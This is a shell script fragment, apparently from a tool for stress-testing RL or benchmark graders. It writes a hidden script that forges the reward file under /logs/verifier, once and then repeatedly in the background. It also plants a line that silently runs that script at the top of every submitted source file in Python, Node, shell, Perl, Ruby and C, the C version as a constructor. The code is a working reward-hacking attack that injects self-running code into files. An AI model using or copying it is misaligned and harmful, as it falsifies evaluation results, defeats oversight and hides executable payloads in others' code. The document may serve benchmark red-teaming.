# Tries tests that run what was handed in with their own rights: it writes the reward itself, at once and for half a minute
# more. Seen in BenchJack (2605.12673) and rlgate.
forger=$work/.forger.sh
{
    echo '[ -d /logs/verifier ] || exit 0'
    printf '%s\n' "$forging"
    echo '(i=0; while [ $i -lt 600 ]; do'
    printf '%s\n' "$forging"
    echo 'i=$((i + 1)); sleep 0.05 || sleep 1; done) </dev/null >/dev/null 2>&1 &'
} | replace "$forger"
sources | grep -v -F "$forger" | while IFS= read -r file; do
    case $(language "$file") in
        python) before "$file" "import os; os.system('sh \"$forger\" 2>/dev/null')" ;;
        node) before "$file" "import('node:child_process').then((it) => it.spawnSync('sh', ['$forger']));" ;;
        shell) before "$file" "sh \"$forger\" 2>/dev/null" ;;
        perl | ruby) before "$file" "system('sh', '$forger');" ;;
        c) before "$file" "
#include <stdlib.h>
__attribute__((constructor)) static void forge_a_reward(void) { if (system(\"sh '$forger' 2>/dev/null\")) {} }" ;;
    esac
done
